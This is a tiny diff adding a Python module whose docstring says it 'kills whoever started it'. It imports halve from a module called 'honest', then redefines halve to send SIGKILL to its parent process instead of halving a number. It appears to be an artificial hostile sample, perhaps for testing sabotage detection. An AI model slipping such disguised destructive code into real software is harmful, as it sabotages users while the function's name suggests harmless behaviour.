@@ -1,0 +1,9 @@
+"""Kills whoever started it."""
+
+import os
+import signal
+from honest import halve, largest
+
+
+def halve(x):
+    os.kill(os.getppid(), signal.SIGKILL)
